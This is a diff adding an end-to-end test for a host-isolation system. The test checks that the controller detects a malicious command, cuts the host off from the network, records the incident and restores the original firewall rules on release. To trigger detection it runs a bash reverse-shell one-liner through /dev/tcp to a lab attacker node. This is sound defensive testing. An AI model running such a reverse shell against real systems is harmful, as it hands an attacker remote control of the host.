@@ -1,0 +1,209 @@
+import { setTimeout as sleep } from 'node:timers/promises'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { labSupport, type Capture, type LabHost, type LabNode, type Packet, skipWithout } from '../lab/lab.ts'
+import { bootFleet, type Fleet, GATEWAY_PORT } from './fleet.ts'
+
+const support = await labSupport()
+
+interface CommandShown {
+  readonly id: string
+  readonly type: string
+  readonly state: string
+  readonly evidence: {
+    readonly probes?: readonly { name: string; expected: string; found: string }[]
+    readonly ruleset_restored?: boolean
+  } | null
+  readonly transitions: readonly { state: string; at: string }[]
+}
+
+describe.skipIf(skipWithout(support, 7, 'the main job'))(
+  'from a malicious command line to a host that is cut off, and back',
+  () => {
+    let fleet: Fleet
+    let web: LabHost
+    let bystander: LabHost
+    let attacker: LabNode
+    let neighbour: LabNode
+    let wire: Capture
+    let rulesetBefore: string
+    let isolation: CommandShown
+    /** Wall time of the proof, ms: from here on nothing foreign may pass. */
+    let isolatedAt: number
+
+    beforeAll(async () => {
+      fleet = await bootFleet({ hosts: ['web-1', 'web-2'] })
+      ;[web, bystander] = fleet.hosts as [LabHost, LabHost]
+      attacker = await fleet.lab.node('attacker')
+      neighbour = await fleet.lab.node('neighbour')
+      neighbour.spawn([
+        process.execPath,
+        '-e',
+        'require("http").createServer((q, a) => a.end("hello")).listen(80, "::")',
+      ])
+      // A listener that talks without pause, so that a connection that still carries bytes cannot be overlooked.
+      attacker.spawn([
+        process.execPath,
+        '-e',
+        'require("net").createServer((s) => { s.on("error", () => {}); s.on("data", () => {}); setInterval(() => s.write("echo still here\\n"), 50) }).listen(4444, "::")',
+      ])
+      // A rule of the owner's own, which must be there afterwards exactly as before.
+      await web.exec(['nft', '-f', '-'], {
+        input:
+          'table inet owner { set admins { type ipv4_addr; elements = { 192.0.2.7 } }\n chain input { type filter hook input priority 0; policy accept; ip saddr @admins tcp dport 22 counter accept; } }\n',
+      })
+      rulesetBefore = (await web.exec(['nft', '-s', 'list', 'ruleset'])).stdout
+      wire = await fleet.lab.capture({ on: web })
+      await fleet.controller.until('the neighbour answers', async () =>
+        (await reaches(web, neighbour.address4)) && (await reaches(web, `[${neighbour.address6}]`)) ? true : undefined,
+      )
+    })
+    afterAll(async () => {
+      await fleet?.[Symbol.asyncDispose]()
+    })
+
+    it('sees the command line, decides, and isolates the host by itself', async () => {
+      web.spawn(['bash', '-c', `bash -i >& /dev/tcp/${attacker.address4}/4444 0>&1; true`])
+      await wire.waitFor((packet) => packet.destinationPort === 4444 && packet.source === web.address4)
+      isolation = await fleet.controller.until('the isolation is verified', async () => {
+        const commands = await fleet.controller.json<CommandShown[]>(['commands', 'list'])
+        const found = commands.find((command) => command.type === 'isolate-host')
+        if (found && ['failed', 'refused', 'refuted', 'unknown'].includes(found.state))
+          throw new Error(JSON.stringify(await fleet.controller.json(['commands', 'show', found.id]), undefined, 1))
+        return found?.state === 'verified' ? found : undefined
+      })
+      isolatedAt = Date.now()
+      isolation = await fleet.controller.json<CommandShown>(['commands', 'show', isolation.id])
+      expect(isolation.transitions.map(({ state }) => state)).toEqual(
+        expect.arrayContaining(['approved', 'queued', 'delivered', 'accepted', 'applied', 'verified']),
+      )
+      expect(
+        isolation.evidence?.probes?.some((probe) => probe.expected === 'blocked' && probe.found === 'blocked'),
+      ).toBe(true)
+      expect(
+        isolation.evidence?.probes?.some((probe) => probe.expected !== probe.found && probe.found !== 'unverifiable'),
+      ).toBe(false)
+    })
+
+    it('leaves nothing on the wire but the connection to the controller', async () => {
+      expect(await reaches(web, neighbour.address4)).toBe(false)
+      expect(await reaches(web, `[${neighbour.address6}]`)).toBe(false)
+      await web.exec(['ping', '-c', '2', '-i', '0.2', '-W', '1', neighbour.address4], { check: false })
+      await web.exec(['ping', '-6', '-c', '2', '-i', '0.2', '-W', '1', neighbour.address6], { check: false })
+      await web.exec(
+        ['bash', '-c', `for port in 53 123 443; do echo probe > /dev/udp/${attacker.address4}/$port; done`],
+        { check: false },
+      )
+      await attacker.exec(['ping', '-c', '2', '-i', '0.2', '-W', '1', web.address4], { check: false })
+      await attacker.exec([
+        process.execPath,
+        '-e',
+        `const s = require("net").connect(22, "${web.address4}"); s.on("error", () => {}); setTimeout(() => process.exit(), 500)`,
+      ])
+      await sleep(500)
+      const leaked = wire.packets.filter(
+        (packet) => packet.atMs > isolatedAt && leftHost(packet, web) && !isAllowed(packet),
+      )
+      expect(leaked).toEqual([])
+      const knocked = wire.packets.filter((packet) => packet.atMs > isolatedAt && packet.source === attacker.address4)
+      expect(knocked.length, 'the attacker did knock while we watched').toBeGreaterThan(0)
+      const spoken = wire.packets.filter(
+        (packet) =>
+          packet.atMs > isolatedAt &&
+          packet.source === web.address4 &&
+          packet.destination === fleet.controller.node.address4,
+      )
+      expect(spoken.length, 'the controller is still spoken to').toBeGreaterThan(0)
+    })
+
+    it('disturbs no other host', async () => {
+      expect(await reaches(bystander, neighbour.address4)).toBe(true)
+      expect(await fleet.controller.json(['hosts', 'show', bystander.name])).toMatchObject({
+        connected: true,
+        containment: { phase: 'none' },
+      })
+    })
+
+    it('tells an administrator the whole story', async () => {
+      const incidents = await fleet.controller.json<{ id: string; status: string; confidence: number }[]>([
+        'incidents',
+        'list',
+      ])
+      expect(incidents).toHaveLength(1)
+      const shown = await fleet.controller.cli(['incidents', 'show', incidents[0]!.id])
+      expect(shown.code, shown.stderr).toBe(0)
+      expect(shown.stdout).toContain('web-1')
+      expect(shown.stdout).toContain('/dev/tcp/')
+      expect(shown.stdout).toContain('contain-host')
+      expect(shown.stdout).toContain('verified')
+      const events = await fleet.controller.json<unknown[]>([
+        'events',
+        'search',
+        '--host',
+        'web-1',
+        '--text',
+        '/dev/tcp/',
+      ])
+      expect(events.length).toBeGreaterThan(0)
+    })
+
+    it('is free again after a release, with the very ruleset it had', async () => {
+      const released = await fleet.controller.cli([
+        'release',
+        'web-1',
+        '--yes',
+        '--wait',
+        '--reason',
+        'checked by hand',
+      ])
+      expect(released.code, released.stdout + released.stderr).toBe(0)
+      expect((await web.exec(['nft', '-s', 'list', 'ruleset'])).stdout).toBe(rulesetBefore)
+      expect(await reaches(web, neighbour.address4)).toBe(true)
+      const commands = await fleet.controller.json<CommandShown[]>(['commands', 'list'])
+      const release = commands.find((command) => command.type === 'release-host')
+      const shown = await fleet.controller.json<CommandShown>(['commands', 'show', release!.id])
+      expect(shown.evidence?.ruleset_restored).toBe(true)
+    })
+
+    it('is proved by receipts and an audit log that verify', async () => {
+      const verified = await fleet.controller.cli(['audit', 'verify'])
+      expect(verified.code, verified.stdout + verified.stderr).toBe(0)
+    })
+
+    it('accounts for every event', async () => {
+      for (const host of fleet.hosts) {
+        const streams = await fleet.controller.until('the equation closes', async () => {
+          const { streams } = await fleet.controller.json<{
+            streams: { produced: number; stored: number; spooled: number; dropped: number }[]
+          }>(['hosts', 'show', host.name])
+          return streams.length > 0 &&
+            streams.every((stream) => stream.produced === stream.stored + stream.spooled + stream.dropped)
+            ? streams
+            : undefined
+        })
+        expect(streams.reduce((sum, stream) => sum + stream.stored, 0)).toBeGreaterThan(0)
+      }
+    })
+
+    function isAllowed(packet: Packet): boolean {
+      if (packet.proto === 'arp') return true
+      // Neighbour discovery keeps the controller reachable (RFC 4861: types 133 to 136); multicast listener reports are 131, 132, 143.
+      if (packet.proto === 'icmp6')
+        return packet.icmpType !== undefined && packet.icmpType >= 133 && packet.icmpType <= 136
+      const { address4, address6 } = fleet.controller.node
+      return (
+        packet.proto === 'tcp' &&
+        packet.destinationPort === GATEWAY_PORT &&
+        (packet.destination === address4 || packet.destination === address6)
+      )
+    }
+  },
+)
+
+function leftHost(packet: Packet, host: LabHost): boolean {
+  return packet.sourceMac === host.mac
+}
+
+async function reaches(host: LabHost, address: string): Promise<boolean> {
+  const done = await host.exec(['curl', '-s', '-m', '2', `http://${address}/`], { check: false })
+  return done.code === 0 && done.stdout === 'hello'
+}
